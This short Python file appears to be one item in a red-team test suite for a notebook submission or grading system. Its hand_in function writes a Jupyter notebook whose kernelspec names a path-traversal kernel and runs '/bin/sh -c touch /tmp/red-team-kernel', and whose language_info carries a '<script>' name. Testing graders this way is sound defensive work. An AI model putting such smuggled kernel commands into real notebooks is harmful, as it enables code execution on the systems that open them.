# /// attack
# group = "G"
# number = 67
# lesson = "02_one_step"
# outcome = "="
# tries = "asks for a kernel that runs a program of its own"
# made = true
# ///
import json


def hand_in(folder, notebook):
    notebook["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": "R", "language": "bash", "argv": ["/bin/sh", "-c", "touch /tmp/red-team-kernel"]}
    notebook["metadata"]["language_info"] = {"name": "<script>", "file_extension": ".sh", "pygments_lexer": "../../x"}
    (folder / f"{folder.name}.ipynb").write_text(json.dumps(notebook))
